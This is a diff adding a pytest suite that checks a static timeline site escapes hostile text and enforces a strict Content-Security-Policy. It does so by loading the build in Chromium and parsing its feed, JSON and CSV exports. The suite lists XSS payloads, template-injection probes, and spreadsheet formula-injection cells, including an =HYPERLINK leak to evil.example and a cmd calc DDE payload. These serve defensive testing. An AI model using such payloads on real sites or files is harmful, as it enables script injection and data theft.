@@ -1,0 +1,743 @@
+"""Hostile but legal content stays text; every page keeps to the exact Content-Security-Policy.
+
+tests/fixtures/hostile-content passes `build.py check --strict`, yet every
+free-text field of the schema carries payloads: script, event handlers,
+javascript: and data: links, Jinja syntax, closers for <title>, <textarea>,
+CDATA and comments, spreadsheet formulas. A payload that became live would
+show as an element with id=pwned, class=pwned or data-pwned, or as an
+alert('pwned') dialog. The build is opened page by page in Chromium, its
+exports are parsed, and what a reader sees is compared with what the editor
+typed, character for character: double escaping is a failure too.
+
+The policy is checked on the real site: no violation while every page loads
+and while searching, with Pagefind's web worker and without it (Pagefind
+then compiles its WebAssembly on the page itself).
+"""
+
+from __future__ import annotations
+
+import csv
+import html
+import io
+import json
+import re
+import shutil
+from collections import defaultdict
+from collections.abc import Iterator
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Any
+from urllib.parse import unquote, urlsplit
+from xml.etree import ElementTree
+
+import feedparser
+import pytest
+import yaml
+from conftest import HOSTILE, ROOT, require_node_tool
+from jsonschema import Draft202012Validator
+
+from timeline import exports
+from timeline.check import check
+from timeline.render import CSP
+from timeline.schema import load_schema
+
+# ---- the payloads -------------------------------------------------------------
+
+# In every plain-text field (titles, labels, notes, quotes) and in the seed documents.
+PLAIN = [
+    "<script>alert('pwned')</script>",
+    "<img src=x id=pwned onerror=alert('pwned')>",
+    "\"><svg class=pwned onload=alert('pwned')>",
+    "'><svg data-pwned onload=alert('pwned')>",
+    "<svg><script>alert('pwned')</script></svg>",
+    "<iframe id=pwned src=\"javascript:alert('pwned')\"></iframe>",
+    "<style class=pwned>body{display:none}</style>",
+    "<a id=pwned href=\"javascript:alert('pwned')\">x</a>",
+    "[x](javascript:alert('pwned'))",
+    "[x](data:text/html,<script>alert('pwned')</script>)",
+    "[x](JaVaScRiPt:alert('pwned'))",
+    '[x](vbscript:msgbox("pwned"))',
+    "<object id=pwned data=\"javascript:alert('pwned')\"></object>",
+    "<embed id=pwned src=\"javascript:alert('pwned')\">",
+    "<form id=pwned action=\"javascript:alert('pwned')\"><button>go</button></form>",
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'pwned\')">',
+    "<base href=\"javascript:alert('pwned')//\">",
+    "{{ 7*7 }}",
+    "{{ 7*191919 }}",  # 1343433 if it were ever evaluated: a number found nowhere else
+    "{% raw %}",
+    "{{ config }}",
+    "{{ ''.__class__ }}",
+    "' \" ` quotes",
+    "</title><script>alert('pwned')</script>",
+    "</textarea><img src=x id=pwned onerror=alert('pwned')>",
+    "]]><img src=x id=pwned onerror=alert('pwned')>",
+    "--><img src=x id=pwned onerror=alert('pwned')>",
+    "&lt;img src=x id=pwned onerror=alert('pwned')&gt;",
+    "AT&T <b>",
+]
+# Each starts a cell of events.csv somewhere: a spreadsheet would run it as a formula.
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"pwned")',
+    "+cmd|' /C calc'!A0 pwned",
+    "-2+3 pwned",
+    "@SUM(1+1) pwned",
+]
+# In the Markdown fields: raw HTML the sanitizer must drop, legal links with
+# handlers and images from elsewhere, and text that must stay text. Links with
+# other schemes than http, https and mailto are refused by the check, so here
+# they are escaped or code.
+MARKDOWN = [
+    "<script>alert('pwned')</script>",
+    "<img src=x id=pwned onerror=alert('pwned')>",
+    "\"><svg class=pwned onload=alert('pwned')>",
+    "<svg><script>alert('pwned')</script></svg>",
+    '<iframe id=pwned src="https://evil.example/pwned"></iframe>',
+    "<style class=pwned>body{display:none}</style>",
+    "\\[x](javascript:alert('pwned'))",
+    "\\[x](data:text/html,<script>alert('pwned')</script>)",
+    "\\[x](JaVaScRiPt:alert('pwned'))",
+    '\\[x](vbscript:msgbox("pwned"))',
+    "`[x](javascript:alert('pwned'))`",
+    '<object id=pwned data="https://evil.example/pwned.swf"></object>',
+    '<embed id=pwned src="https://evil.example/pwned.swf">',
+    '<form id=pwned action="https://evil.example/">',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    'onclick="alert(\'pwned\')" class="pwned" style="color:red" data-pwned',
+    "![pwned](https://evil.example/pwned.png)",
+    "onmouseover=alert('pwned')",
+    "<details open ontoggle=alert('pwned')>",
+    "<math><mtext><table><mglyph><style><img src=x id=pwned onerror=alert('pwned')>",
+    "<noscript><p title=\"</noscript><img src=x id=pwned onerror=alert('pwned')>\">",
+    "<!--><img src=x id=pwned onerror=alert('pwned')>-->",
+    "{{ 7*7 }}",
+    "{{ 7*191919 }}",
+    "{% raw %} {{ config }}",
+    "`{{ ''.__class__ }}`",
+    "</title> </textarea> ]]> -->",
+    "```\n<script>alert('pwned')</script>\n```",
+]
+
+# What a reader sees of those: escaped, in code, or plain text the sanitizer left alone.
+MARKDOWN_SHOWN = [
+    "{{ 7*7 }}", "{{ 7*191919 }}", "{% raw %} {{ config }}", "{{ ''.__class__ }}",
+    "[x](javascript:alert('pwned'))", "[x](JaVaScRiPt:alert('pwned'))", "<a href=\"javascript:alert('pwned')\">x</a>",
+    "<script>alert('pwned')</script>", "]]> -->", "AT&T bold", "<img src=x id=pwned onerror=alert('pwned')>",
+]  # fmt: skip
+
+# The schema's free-text fields: strings with no pattern beyond "not blank".
+# Ids, dates, file names and the two addresses are pattern-restricted.
+FREE_TEXT_FIELDS = [
+    "site.title", "site.description", "topics.*", "actors.*", "eras[].title", "eras[].summary",
+    "sources[].title", "sources[].publisher", "sources[].assessment", "sources[].body.first",
+    "sources[].body.last", "events[].date_note", "events[].title", "events[].summary",
+    "events[].status_note", "events[].citations[].quote", "events[].citations[].note",
+]  # fmt: skip
+MARKDOWN_FIELDS = {"eras[].summary", "sources[].assessment", "events[].summary"}
+# One value each (or one per source): a payload in each, not every payload.
+SINGLE_FIELDS = {"site.title", "site.description", "sources[].body.first", "sources[].body.last"}
+
+# What a sanitized fragment of HTML may hold (feed entries, summary_html, TimelineJS text).
+SAFE_TAGS = {"a", "abbr", "b", "blockquote", "br", "code", "em", "i", "li", "ol", "p", "pre", "strong",
+             "sub", "sup", "ul"}  # fmt: skip
+URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "background"}
+UNSAFE_SCHEME = re.compile(r"^(javascript|data|vbscript):", re.I)
+
+# The policy, directive by directive. 'wasm-unsafe-eval' lets Pagefind compile its
+# WebAssembly on the page when its web worker is not used; it does not allow eval().
+EXPECTED_POLICY = {
+    "default-src": ["'self'"],
+    "script-src": ["'self'", "'wasm-unsafe-eval'"],
+    "style-src": ["'self'"],
+    "img-src": ["'self'"],
+    "object-src": ["'none'"],
+    "base-uri": ["'none'"],
+    "form-action": ["'self'"],
+}
+
+
+def unsafe_address(value: str) -> bool:
+    """A javascript:, data: or vbscript: address, as a browser reads it (controls and spaces dropped)."""
+    return bool(UNSAFE_SCHEME.match(re.sub(r"[\x00-\x20]", "", html.unescape(value))))
+
+
+def words(text: str) -> str:
+    return " ".join(text.split())
+
+
+# ---- the fixture: legal, and every free-text field is hostile ----------------------
+
+
+@pytest.fixture(scope="module")
+def timeline():
+    checked = check(HOSTILE / "events.yaml", HOSTILE / "seeds")
+    assert checked.problems == [], [p.message for p in checked.problems]
+    assert checked.timeline is not None
+    return checked.timeline
+
+
+def free_text(node: dict[str, Any], value: Any, path: str = "") -> Iterator[tuple[str, Any]]:
+    """(field, value) for each free-text string of the schema; value None where the data has none."""
+    if "$ref" in node:
+        node = {**load_schema()["$defs"][node["$ref"].rsplit("/", 1)[1]], **node}
+    kind = node.get("type")
+    if kind == "object":
+        value = value if isinstance(value, dict) else {}
+        for name, sub in node.get("properties", {}).items():
+            yield from free_text(sub, value.get(name), f"{path}.{name}" if path else name)
+        if isinstance(node.get("additionalProperties"), dict):
+            for item in list(value.values()) or [None]:
+                yield from free_text(node["additionalProperties"], item, f"{path}.*")
+    elif kind == "array":
+        for item in (value if isinstance(value, list) else []) or [None]:
+            yield from free_text(node["items"], item, f"{path}[]")
+    elif kind == "string" and node.get("pattern", r"\S") == r"\S":
+        yield path, value
+
+
+def test_the_fixture_is_legal_and_every_free_text_field_carries_payloads(timeline):
+    data = yaml.safe_load((HOSTILE / "events.yaml").read_text(encoding="utf-8"))
+    found: dict[str, list[str]] = defaultdict(list)
+    for field, value in free_text(load_schema(), data):
+        found[field].extend([value] if value is not None else [])
+    assert sorted(found) == sorted(FREE_TEXT_FIELDS), "a field was added to the schema: give it payloads"
+    for field, values in found.items():
+        assert values, f"{field}: the fixture has no value"
+        text = "\n".join(values)
+        assert all(any(p in v for p in PLAIN + FORMULAS + MARKDOWN) for v in values), field
+        if field in SINGLE_FIELDS:
+            continue
+        wanted = MARKDOWN if field in MARKDOWN_FIELDS else PLAIN
+        assert [p for p in wanted if p not in text] == [], field
+    starts = [e.title for e in timeline.events] + [e.summary for e in timeline.events]
+    assert all(any(s.startswith(f) for s in starts) for f in FORMULAS)
+    for seed in (HOSTILE / "seeds").iterdir():
+        assert [p for p in PLAIN if p not in seed.read_text(encoding="utf-8")] == [], seed.name
+
+
+# ---- the exports: they parse, and hold the payloads as text -----------------------
+
+
+class _Audit(HTMLParser):
+    """A fragment of HTML as a browser would read it: what it may not hold, and its text."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.problems: list[str] = []
+        self.text: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag not in SAFE_TAGS:
+            self.problems.append(f"<{tag}>")
+        for name, value in attrs:
+            if name.startswith("on") or name in ("style", "id", "class") or name.startswith("data-"):
+                self.problems.append(f"<{tag} {name}>")
+            if name in URL_ATTRIBUTES and value and (unsafe_address(value) or "evil.example" in value):
+                self.problems.append(f"<{tag} {name}={value!r}>")
+
+    def handle_data(self, data: str) -> None:
+        self.text.append(data)
+
+
+def audit(fragment: str) -> str:
+    """The text of a safe fragment of HTML; fails on anything unsafe in it."""
+    parser = _Audit()
+    parser.feed(fragment)
+    parser.close()
+    assert parser.problems == [], fragment
+    return "".join(parser.text)
+
+
+def test_the_feed_parses_and_holds_the_payloads_as_text(hostile_site, timeline):
+    raw = (hostile_site / "feed.xml").read_bytes()
+    atom = {"a": "http://www.w3.org/2005/Atom"}
+    root = ElementTree.fromstring(raw)  # well-formed, whatever the titles hold
+    assert root.findtext("a:title", namespaces=atom) == timeline.site.title
+    assert root.findtext("a:subtitle", namespaces=atom) == timeline.site.description
+    entries = root.findall("a:entry", atom)
+    by_url = {f"{timeline.site.base_url}events/{e.id}/": e for e in timeline.events}
+    assert sorted(entry.findtext("a:id", namespaces=atom) for entry in entries) == sorted(by_url)
+    for entry in entries:
+        event = by_url[entry.findtext("a:id", namespaces=atom)]
+        assert entry.findtext("a:title", namespaces=atom) == event.title
+        labels = [c.get("label") for c in entry.findall("a:category", atom)]
+        assert labels == [next(t.label for t in timeline.topics if t.id == key) for key in event.topics]
+        content = entry.find("a:content", atom)
+        assert content is not None
+        assert content.get("type") == "html"
+        text = audit(content.text or "")  # the HTML a feed reader shows
+        assert all(citation.quote in text for citation in event.citations)
+    feed = feedparser.parse(raw, sanitize_html=False)
+    assert not feed.bozo, feed.get("bozo_exception")
+    assert feed.feed.title == timeline.site.title
+    assert [e.title for e in feed.entries] == [e.findtext("a:title", namespaces=atom) for e in entries]
+
+
+def test_events_json_holds_every_text_exactly(hostile_site, timeline):
+    data = json.loads((hostile_site / "events.json").read_text(encoding="utf-8"))
+    schema = json.loads((ROOT / "schema" / "events.export.schema.json").read_text())
+    assert [e.message for e in Draft202012Validator(schema).iter_errors(data)] == []
+    assert data["site"]["title"] == timeline.site.title
+    assert data["site"]["description"] == timeline.site.description
+    assert [(t["id"], t["label"]) for t in data["topics"]] == [(t.id, t.label) for t in timeline.topics]
+    assert [(e["title"], e["summary"]) for e in data["eras"]] == [(e.title, e.summary) for e in timeline.eras]
+    for record, source in zip(data["sources"], timeline.sources, strict=True):
+        assert (record["title"], record["publisher"], record["assessment"], record["original_url"]) == (
+            source.title, source.publisher, source.assessment, source.url,
+        )  # fmt: skip
+    events = {e.id: e for e in timeline.events}
+    for record in data["events"]:
+        event = events[record["id"]]
+        assert record["title"] == event.title
+        assert record["summary"] == event.summary
+        assert record["date_note"] == event.date_note
+        assert record["status_note"] == event.status_note
+        assert [(c["quote"], c["note"]) for c in record["citations"]] == [
+            (c.quote, c.note) for c in event.citations
+        ]
+        audit(record["summary_html"])
+
+
+def test_events_csv_holds_the_text_and_no_cell_starts_a_formula(hostile_site, timeline):
+    rows = list(csv.DictReader(io.StringIO((hostile_site / "events.csv").read_text(encoding="utf-8"))))
+    assert len(rows) == len(timeline.events)
+    starting = [(r["id"], k, v[:20]) for r in rows for k, v in r.items() if v[:1] in ("=", "+", "-", "@")]
+    assert starting == []
+    events = {e.id: e for e in timeline.events}
+    for row in rows:
+        event = events[row["id"]]
+        typed = {"title": event.title, "summary": event.summary, "date_note": event.date_note or "",
+                 "status_note": event.status_note or ""}  # fmt: skip
+        for column, value in typed.items():
+            # A formula-like text keeps every character, behind the apostrophe spreadsheets hide.
+            kept = f"'{value}" if value.startswith(("=", "+", "-", "@")) else value
+            assert row[column] == kept, (row["id"], column)
+        assert row["quotes"] == " | ".join(c.quote for c in event.citations)
+    assert any(row["title"].startswith("'=HYPERLINK(") for row in rows)
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("a=1", "a=1"),
+        ("1-2", "1-2"),
+        ("", ""),
+        ("'quoted'", "'quoted'"),
+    ],
+)
+def test_a_csv_cell_that_a_spreadsheet_would_run_is_kept_as_text(value, cell):
+    assert exports.spreadsheet_text(value) == cell
+
+
+def test_timeline_json_holds_every_text_exactly(hostile_site, timeline):
+    data = json.loads((hostile_site / "timeline.json").read_text(encoding="utf-8"))
+    events = {e.id: e for e in timeline.events}
+    eras = {e.id: e for e in timeline.eras}
+    # TimelineJS inserts headlines and texts as HTML: ours are escaped text and sanitized HTML.
+    assert html.unescape(data["title"]["text"]["headline"]) == timeline.site.title
+    assert audit(data["title"]["text"]["text"]) == timeline.site.description
+    for slide in data["events"]:
+        event = events[slide["unique_id"]]
+        assert "<" not in slide["text"]["headline"]
+        assert html.unescape(slide["text"]["headline"]) == event.title
+        audit(slide["text"]["text"])
+        # TimelineJS takes a group's text out of HTML, then inserts that text as HTML:
+        # escaped twice, the reader sees the title as typed.
+        assert html.unescape(html.unescape(slide["group"])) == eras[event.era].title
+        assert "<" not in html.unescape(slide["group"])
+    assert [html.unescape(e["text"]["headline"]) for e in data["eras"]] == [e.title for e in timeline.eras]
+
+
+def test_nothing_was_evaluated_anywhere(hostile_site):
+    """{{ 7*191919 }} is all over the fixture; its value must appear in no file of the build."""
+    built = [p for p in hostile_site.rglob("*") if p.is_file() and "pagefind" not in p.parts]
+    assert len(built) > 50
+    assert [p.name for p in built if b"1343433" in p.read_bytes()] == []
+
+
+# ---- every page of both builds: one exact policy, no inline code -------------------
+
+
+class _Tags(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+
+
+def html_pages(site: Path) -> list[Path]:
+    return sorted(p for p in site.rglob("*.html") if "pagefind" not in p.relative_to(site).parts)
+
+
+def test_the_policy_is_exactly_what_the_site_needs():
+    directives = {name: sources for name, *sources in (d.split() for d in CSP.split(";"))}
+    assert directives == EXPECTED_POLICY
+
+
+@pytest.mark.parametrize("build", ["built_site", "hostile_site"])
+def test_every_page_carries_the_policy_first_and_no_inline_code(build, request):
+    site = request.getfixturevalue(build)
+    pages = html_pages(site)
+    assert len(pages) > 20
+    for path in pages:
+        parser = _Tags()
+        parser.feed(path.read_text(encoding="utf-8"))
+        tags = parser.tags
+        where = path.relative_to(site)
+        policies = [(i, a) for i, (t, a) in enumerate(tags) if t == "meta" and "http-equiv" in a]
+        assert [a for _, a in policies] == [{"http-equiv": "Content-Security-Policy", "content": CSP}], where
+        first_resource = min(i for i, (t, _) in enumerate(tags) if t in ("script", "link", "style"))
+        assert policies[0][0] < first_resource, f"{where}: the policy must come before what it governs"
+        assert [a for t, a in tags if t == "script" and not a.get("src")] == [], f"{where}: inline script"
+        assert [t for t, _ in tags if t == "style"] == [], f"{where}: <style>"
+        assert [(t, n) for t, a in tags for n in a if n == "style" or n.startswith("on")] == [], where
+        assert [
+            (t, v) for t, a in tags for n, v in a.items() if n in URL_ATTRIBUTES and v and unsafe_address(v)
+        ] == [], where
+        assert [t for t, _ in tags if t in ("iframe", "object", "embed", "base", "form")] == [], where
+
+
+# ---- in Chromium ------------------------------------------------------------------
+
+# Installed before any script of the page: violations of the policy are recorded.
+RECORD_VIOLATIONS = """
+window.__violations = [];
+document.addEventListener("securitypolicyviolation", (e) => window.__violations.push(
+  `${e.effectiveDirective} blocked ${e.blockedURI || "inline"} at ${e.sourceFile}:${e.lineNumber} ${e.sample}`));
+"""
+
+# Anything a payload would have made: elements it names, handlers, unsafe addresses.
+INJECTED = """({scope, styles}) => {
+  const root = scope ? document.querySelector(scope) : document;
+  const found = [];
+  const show = (el) => el.outerHTML.slice(0, 160);
+  const unsafe = (v) => /^(javascript|data|vbscript):/i.test(v.replace(/[\\u0000-\\u0020]/g, ""));
+  const named = "[id=pwned], .pwned, [data-pwned], iframe, frame, object, embed, applet, base, form, style";
+  for (const el of root.querySelectorAll(named)) found.push(show(el));
+  for (const el of root.querySelectorAll("meta[http-equiv]")) {
+    if (el.httpEquiv.toLowerCase() !== "content-security-policy") found.push(show(el));
+  }
+  for (const el of root.querySelectorAll("script")) {
+    if (!el.src || new URL(el.src).origin !== location.origin) found.push(show(el));
+  }
+  const urls = ["href", "src", "action", "formaction", "data", "xlink:href", "poster", "background"];
+  for (const el of root.querySelectorAll("*")) {
+    for (const a of el.attributes) {
+      const named = `${a.name}=${JSON.stringify(a.value)} on ${show(el)}`;
+      if (a.name.startsWith("on") || (styles && a.name === "style")) found.push(named);
+      if (urls.includes(a.name) && unsafe(a.value)) found.push(named);
+    }
+  }
+  return found;
+}"""
+PAGE = {"scope": None, "styles": True}
+
+
+class Reader:
+    """One browser context on one served build: every dialog, request, violation and error recorded.
+
+    404.html links from the site's published path (the host serves it at any
+    depth); requests under that path are answered from the build, as the host would.
+    """
+
+    def __init__(
+        self, browser, base: str, site: Path, *, published: str = "/", bypass_csp: bool = False
+    ) -> None:
+        self.base = base
+        self.host = urlsplit(base).netloc
+        self.site = site
+        self.published = published
+        self.context = browser.new_context(viewport={"width": 1280, "height": 900}, bypass_csp=bypass_csp)
+        self.context.add_init_script(RECORD_VIOLATIONS)
+        self.context.route("**/*", self._route)
+        self.page = self.context.new_page()
+        self.dialogs: list[str] = []
+        self.requests: list[str] = []
+        self.errors: list[str] = []
+        self.violations: list[str] = []
+        self.warnings: list[str] = []
+        self.current = ""
+        self.page.on("dialog", lambda d: (self.dialogs.append(d.message), d.dismiss()))
+        self.page.on("request", lambda r: self.requests.append(r.url))
+        self.page.on("pageerror", lambda e: self.errors.append(f"{self.current}: {e}"))
+        self.page.on("console", self._console)
+
+    def _console(self, message) -> None:
+        if message.type in ("error", "warning"):
+            recorded = self.errors if message.type == "error" else self.warnings
+            recorded.append(f"{self.current}: {message.text}")
+
+    def _route(self, route) -> None:
+        address = urlsplit(route.request.url)
+        if address.netloc != self.host:
+            route.abort()  # recorded as a request, and fails fast offline
+            return
+        path = unquote(address.path)
+        if self.published != "/" and path.startswith(self.published):
+            file = self.site / path.removeprefix(self.published)
+            if file.is_file():
+                route.fulfill(path=file)
+                return
+        route.continue_()
+
+    def open(self, path: str):
+        self.current = path
+        self.page.goto(self.base + path, wait_until="load")
+        return self.page
+
+    def settle(self) -> None:
+        """Collect what the page recorded; call before leaving it."""
+        self.violations += self.page.evaluate("window.__violations")
+
+    def check(self) -> None:
+        assert self.dialogs == []
+        outside = [u for u in self.requests if urlsplit(u).netloc != self.host]
+        assert outside == [], f"requests that left 127.0.0.1: {outside}"
+        assert self.requests
+        assert self.violations == []
+        assert self.errors == []
+
+    def close(self) -> None:
+        self.context.close()
+
+
+def reader_of(browser, site: Path, base: str, **options: Any) -> Reader:
+    published = urlsplit(json.loads((site / "events.json").read_text())["site"]["base_url"]).path
+    return Reader(browser, base, site, published=published, **options)
+
+
+@pytest.fixture(scope="module")
+def hostile_base(hostile_site, serve):
+    return serve(hostile_site)
+
+
+def text_of(page, selector: str) -> list[str]:
+    return [words(t) for t in page.eval_on_selector_all(selector, "els => els.map(e => e.textContent)")]
+
+
+@pytest.mark.browser
+@pytest.mark.slow
+@pytest.mark.parametrize("policy", ["enforced", "bypassed"])
+def test_no_page_of_the_hostile_build_runs_or_injects_anything(browser, hostile_site, hostile_base, policy):
+    """Bypassed, the policy hides nothing: escaping and sanitizing alone keep every payload text."""
+    from playwright.sync_api import Error as PlaywrightError
+
+    reader = reader_of(browser, hostile_site, hostile_base, bypass_csp=policy == "bypassed")
+    injected = {}
+    try:
+        for path in html_pages(hostile_site):
+            name = path.relative_to(hostile_site).as_posix()
+            try:
+                page = reader.open(name)
+                page.wait_for_timeout(50)  # an onerror or onload would have fired by now
+                found = page.evaluate(INJECTED, PAGE)
+                assert "1343433" not in page.locator("body").inner_text()
+                reader.settle()
+            except PlaywrightError as error:  # a refresh or a script took the page away
+                found = [f"left the page: {error.message.splitlines()[0]}"]
+            if found:
+                injected[name] = found
+        reader.check()
+    finally:
+        reader.close()
+    assert injected == {}
+
+
+@pytest.mark.browser
+@pytest.mark.slow
+def test_a_reader_sees_every_hostile_text_exactly_as_typed(browser, hostile_site, hostile_base, timeline):
+    site = timeline.site
+    topics = {t.id: t.label for t in timeline.topics}
+    actors = {t.id: t.label for t in timeline.actors}
+    sources = {s.id: s for s in timeline.sources}
+    eras = {e.id: e for e in timeline.eras}
+    reader = reader_of(browser, hostile_site, hostile_base)
+    try:
+        page = reader.open("index.html")
+        assert page.title() == site.title
+        assert page.locator("meta[name=description]").get_attribute("content") == site.description
+        assert text_of(page, ".site-name, .intro h1") == [words(site.title)] * 2
+        assert text_of(page, ".intro .lede") == [words(site.description)]
+        assert text_of(page, ".era h2") == [words(e.title) for e in timeline.eras]
+        assert text_of(page, ".chip[data-filter=topic]") == [words(t.label) for t in timeline.topics]
+        assert text_of(page, ".chip[data-filter=actor]") == [words(t.label) for t in timeline.actors]
+        for event in timeline.events:
+            assert text_of(page, f"[id='{event.id}'] .event-title") == [words(event.title)]
+        marks = text_of(page, ".overview-chart a.mark title")
+        assert sorted(m.split(": ", 1)[1].removesuffix(" (unconfirmed)") for m in marks) == sorted(
+            words(e.title) for e in timeline.events
+        )
+        assert sorted(text_of(page, ".overview-chart .band text")) == sorted(
+            f"{n}. {words(e.title)}" for n, e in enumerate(timeline.eras, start=1)
+        )
+        # Markdown: raw HTML dropped, and what is meant as text is shown as text.
+        summary = text_of(page, "[id='event-1'] .event-summary")[0]
+        assert [literal for literal in MARKDOWN_SHOWN if literal not in summary] == []
+        reader.settle()
+
+        for event in timeline.events:
+            page = reader.open(f"events/{event.id}/index.html")
+            assert page.title() == f"{event.title} — {site.title}"
+            assert text_of(page, "h1") == [words(event.title)]
+            assert text_of(page, ".breadcrumb a") == [words(eras[event.era].title)]
+            assert text_of(page, ".date-note") == (
+                [words(f"How this date was derived: {event.date_note}")] if event.date_note else []
+            )
+            assert text_of(page, ".status-unconfirmed") == (
+                [words(f"Unconfirmed {event.status_note}")] if event.unconfirmed else []
+            )
+            assert text_of(page, ".tags a") == [words(topics[k]) for k in event.topics] + [
+                words(actors[k]) for k in event.actors
+            ]
+            assert text_of(page, ".citation blockquote") == [words(c.quote) for c in event.citations]
+            assert text_of(page, ".citation-note") == [
+                words(f"Note: {c.note}") for c in event.citations if c.note
+            ]
+            assert text_of(page, ".citation figcaption > a:first-child") == [
+                words(sources[c.source].title) for c in event.citations
+            ]
+            reader.settle()
+
+        for source in timeline.sources:
+            page = reader.open(f"sources/{source.id}/index.html")
+            assert text_of(page, "h1") == [words(source.title)]
+            assert text_of(page, ".source-meta dd")[0] == words(source.publisher)
+            if source.url:
+                link = page.locator(".source-meta a[href^=http]")
+                assert link.get_attribute("href") == source.url
+                assert words(link.inner_text()) == source.url
+            document = words(page.locator(".reading").text_content() or "")
+            assert [p for p in PLAIN if words(p) not in document] == []
+            for event in timeline.events:
+                for number, citation in enumerate(event.citations, start=1):
+                    if citation.source == source.id:
+                        anchor = page.locator(f"[id='q-{event.id}-{number}']")
+                        marked = anchor.evaluate("a => (a.closest('mark') || a).textContent")
+                        assert words(marked) in words(citation.quote), (event.id, number)
+            reader.settle()
+
+        for kind, terms in (("topics", timeline.topics), ("actors", timeline.actors)):
+            for term in terms:
+                page = reader.open(f"{kind}/{term.id}/index.html")
+                assert text_of(page, "h1") == [words(term.label)]
+                reader.settle()
+        page = reader.open("sources/index.html")
+        assert text_of(page, ".source-item h2") == [words(s.title) for s in timeline.sources]
+        reader.settle()
+        reader.check()
+    finally:
+        reader.close()
+
+
+@pytest.mark.browser
+def test_searching_the_hostile_build_shows_the_payloads_as_text(
+    browser, hostile_site, hostile_base, timeline
+):
+    reader = reader_of(browser, hostile_site, hostile_base)
+    try:
+        page = reader.open("index.html")
+        page.locator("#search-input").fill("onerror")
+        page.locator("#search-results li a").first.wait_for()
+        titles = text_of(page, "#search-results .search-title")
+        known = {words(e.title) for e in timeline.events} | {words(s.title) for s in timeline.sources}
+        assert titles
+        assert [t for t in titles if t not in known] == []
+        excerpts = " ".join(text_of(page, "#search-results .search-excerpt"))
+        assert "<img src=x id=pwned onerror=alert('pwned')>" in excerpts
+        assert page.evaluate(INJECTED, PAGE) == []
+        reader.settle()
+        reader.check()
+    finally:
+        reader.close()
+
+
+@pytest.mark.browser
+@pytest.mark.slow
+def test_the_hostile_timeline_json_stays_text_in_timelinejs(browser, hostile_site, serve, tmp_path, timeline):
+    from test_timelinejs import HARNESS, LIBRARY, SETTLED, STATE
+
+    dist = require_node_tool("@knight-lab", "timelinejs", "dist")
+    folder = tmp_path / "site"
+    shutil.copytree(hostile_site, folder)
+    (folder / LIBRARY).symlink_to(dist, target_is_directory=True)
+    (folder / "timelinejs-harness.html").write_text(HARNESS, encoding="utf-8")
+    reader = Reader(browser, serve(folder), folder)
+    try:
+        page = reader.open("timelinejs-harness.html")
+        page.wait_for_function(SETTLED, timeout=20_000)
+        state = page.evaluate(STATE)
+        assert state["ready"], state
+        count = page.locator("#timeline-embed .tl-slide").count()
+        page.evaluate("count => { for (let n = 0; n < count; n++) window.timeline.goTo(n); }", count)
+        page.wait_for_timeout(300)
+        embed = "#timeline-embed"
+        # TimelineJS lays itself out with style attributes: those are its own.
+        found = page.evaluate(INJECTED, {"scope": embed, "styles": False})
+        # ...and so is the no-op handler of the links it makes of addresses in a text.
+        assert [f for f in found if not f.startswith('onclick="void(0)" on <a class="tl-makelink"')] == []
+        headlines = text_of(page, f"{embed} .tl-slide:not(.tl-slide-titleslide) .tl-headline")
+        assert sorted(headlines) == sorted(words(e.title) for e in timeline.events)
+        groups = text_of(page, f"{embed} .tl-timegroup-message")
+        assert sorted(groups) == sorted(words(e.title) for e in timeline.eras)
+        eras = text_of(page, f"{embed} .tl-timeera-text")
+        assert sorted(eras) == sorted(words(e.title) for e in timeline.eras)
+        reader.settle()
+        assert reader.dialogs == []
+        assert [u for u in reader.requests if urlsplit(u).netloc != reader.host] == []
+    finally:
+        reader.close()
+
+
+# ---- the policy on the real site --------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def real_base(built_site, serve):
+    return serve(built_site)
+
+
+@pytest.mark.browser
+@pytest.mark.slow
+def test_no_page_of_the_real_site_violates_its_policy(browser, built_site, real_base):
+    reader = reader_of(browser, built_site, real_base)
+    try:
+        for path in html_pages(built_site):
+            reader.open(path.relative_to(built_site).as_posix())
+            reader.settle()
+        reader.check()
+    finally:
+        reader.close()
+
+
+@pytest.mark.browser
+@pytest.mark.parametrize("where", ["web worker", "page"])
+def test_search_runs_within_the_policy(browser, built_site, real_base, where):
+    """Pagefind searches in a web worker; when the worker fails it compiles its WebAssembly on the page."""
+    reader = reader_of(browser, built_site, real_base)
+    if where == "page":
+        reader.context.route("**/pagefind-worker.js", lambda route: route.abort())
+    workers: list[str] = []
+    try:
+        page = reader.open("index.html")
+        page.on("worker", lambda worker: workers.append(worker.url))
+        page.locator("#search-input").fill("Bessent")
+        page.locator("#search-results li a").first.wait_for(timeout=10_000)
+        assert "Bessent" in " ".join(text_of(page, "#search-results .search-title"))
+        reader.settle()
+        assert any(u.endswith("/pagefind/wasm.en.pagefind") for u in reader.requests)
+        fell_back = [w for w in reader.warnings if "falling back to main thread" in w]
+        if where == "page":
+            assert fell_back, reader.warnings
+        else:
+            assert [u for u in workers if u.endswith("/pagefind/pagefind-worker.js")]
+            assert fell_back == []
+        reader.check()
+    finally:
+        reader.close()
